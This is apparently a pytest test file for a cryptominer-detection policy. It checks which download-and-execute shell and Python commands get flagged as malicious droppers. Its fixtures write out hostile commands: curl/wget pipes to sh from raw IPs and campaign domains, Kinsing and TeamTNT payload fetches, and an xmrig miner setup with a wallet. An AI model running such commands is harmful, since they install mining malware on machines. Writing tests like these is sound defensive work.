"""Droppers: a remote script or binary fetched and run, weighed by what gives it away.

A dropper alone is an installer (``curl https://example.com/install.sh | sh``) and stays
allowed; a raw public IP, a campaign's domain or tool name, or a miner's release archive
weighs it up, and the bundle's combination rule makes a dropper with any mining signal a
miner.
"""

from __future__ import annotations

import pytest

from minerguard.compiled_policy import default_policy
from minerguard.signatures import bundle, engine, shell
from minerguard.signatures.engine import Subject

POLICY = default_policy()
WALLET = (  # a checksum-valid Monero address (the XMR community donation address)
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
)
RELEASE = (
    "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"
)


def judge(script: str) -> engine.Verdict:
    return POLICY.engine.evaluate(Subject(argv=("sh", "-c", script)))


def names(verdict: engine.Verdict) -> set[str]:
    return {s.name for s in verdict.signals}


@pytest.mark.parametrize(
    "script",
    [
        "curl -fsSL http://45.9.148.114/kinsing | sh",
        "wget -q -O - http://185.191.32.198/kdevtmpfsi | bash",
        "busybox wget -O /tmp/kdevtmpfsi http://45.9.148.114/kdevtmpfsi; "
        "chmod +x /tmp/kdevtmpfsi; /tmp/kdevtmpfsi",
        "cd /tmp; curl -o kthreaddk http://185.191.32.198/kthreaddk && chmod 755 kthreaddk && "
        "nohup ./kthreaddk >/dev/null 2>&1 &",
        'bash -c "$(curl -fsSL http://teamtnt.red/up.sh)"',
        "curl -s https://kiss.a-dog.top/b2f628/cronb.sh | bash",
        "bash <(wget -qO- http://45.9.148.114/kinsing)",
        f"wget {RELEASE} && tar xzf xmrig-6.21.0-linux-static-x64.tar.gz && "
        "./xmrig-6.21.0/xmrig --url 10.0.0.1:80",
        f"curl -sL {RELEASE} | tar xz && ./xmrig-6.21.0/sysupd",
        "curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/"
        f"setup_moneroocean_miner.sh | bash -s {WALLET}",
    ],
)
def test_a_dropper_that_gives_itself_away_is_denied(script: str) -> None:
    verdict = judge(script)
    assert verdict.matched
    assert "dropper" in names(verdict)


def test_a_dropper_of_a_miner_release_is_denied_by_the_bundle_rule() -> None:
    archive = "xmrig-6.21.0-linux-static-x64.tar.gz"
    fetch = f"curl -sLO https://downloads.example.org/{archive} && tar xzf {archive}"
    verdict = judge(f"{fetch} && ./xmrig-6.21.0/worker -c cfg.json")
    assert verdict.matched
    assert {"dropper", "miner-download", "rule/dropper-with-mining"} <= names(verdict)
    assert not judge(fetch).matched  # fetched, never run: no dropper
    rule = next(r for r in bundle.builtin().scoring.rules if r.id == "rule/dropper-with-mining")
    assert rule.all_of == ("dropper",)
    assert {"miner-download", "campaign-tool", "campaign-host"} <= set(rule.any_of)


def test_a_dropper_beside_a_weak_signal_benign_software_carries_stays_allowed() -> None:
    # A wallet (a merchant's, a validator's fee recipient), a pool explorer's host or a
    # binary's name beside an installer: measured on the corpus under the dropper transform,
    # counting these turned benign containers into miners, so the rule leaves them out.
    verdict = judge(f"curl -fsSL https://example.com/install.sh | sh; app --fee-recipient {WALLET}")
    assert {"dropper", "wallet"} <= names(verdict)
    assert not verdict.matched


def test_a_python_dropper_is_denied() -> None:
    code = (
        "import urllib.request,os; urllib.request.urlretrieve('http://45.9.148.114/kinsing',"
        "'/tmp/k'); os.chmod('/tmp/k', 0o755); os.system('/tmp/k')"
    )
    verdict = POLICY.engine.evaluate(Subject(argv=("python3", "-c", code)))
    assert verdict.matched
    assert {"dropper", "campaign-tool"} <= names(verdict)


@pytest.mark.parametrize(
    "script",
    [
        "curl -fsSL https://example.com/install.sh | sh",
        "curl -sSfL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash",
        "wget -qO- https://get.docker.com | sh -s -- --version 24.0",
        "curl -o /tmp/app.tar.gz https://example.com/app-1.2.tar.gz && tar xzf /tmp/app.tar.gz "
        "&& ./app/bin/server --port 3333",
    ],
)
def test_a_normal_installer_stays_allowed_though_it_is_a_dropper(script: str) -> None:
    verdict = judge(script)
    assert not verdict.matched
    assert "dropper" in names(verdict)


@pytest.mark.parametrize(
    "script",
    [
        "curl -o /tmp/data.json https://api.example.com/v1/data",
        "curl -s http://45.9.148.114/health",
        "wget https://example.com/kinsing-removal-guide.html",
        "pkill -f kdevtmpfsi; rm -f /tmp/kdevtmpfsi",
    ],
)
def test_a_download_that_is_not_run_is_no_dropper(script: str) -> None:
    verdict = judge(script)
    assert "dropper" not in names(verdict)
    assert not verdict.matched


def test_the_evaluator_reports_how_the_payload_is_run() -> None:
    piped = shell.evaluate("curl -fsSL http://1.2.3.4/x.sh | sh")
    assert [(d.urls, d.run) for d in piped.droppers] == [(("http://1.2.3.4/x.sh",), "piped to sh")]
    saved = shell.evaluate("wget -O /tmp/a http://1.2.3.4/x; chmod +x /tmp/a; /tmp/a")
    assert [d.run for d in saved.droppers] == ["downloaded, then run"]
    assert saved.droppers[0].names == ("x", "a")
    substituted = shell.evaluate('sh -c "$(curl -s https://h.example/i.sh)"')
    assert [d.run for d in substituted.droppers] == ["sh -c $(download)"]


def test_a_raw_ip_and_a_campaign_domain_weigh_a_dropper_up() -> None:
    raw = judge("wget -q -O - http://198.51.100.23/d.sh | sh > /dev/null 2>&1; sleep infinity")
    assert {"dropper", "dropper-raw-ip", "rule/dropper-with-mining"} <= names(raw)
    assert raw.matched  # Kinsing's first step: an unnamed script from a bare address
    local = judge("curl -s http://127.0.0.1:8080/x.sh | sh")
    assert not local.matched  # loopback: a test's own server
    campaign = judge("curl -s http://teamtnt.red/x.sh | sh")
    assert {"dropper", "campaign-host"} <= names(campaign)
    assert campaign.matched
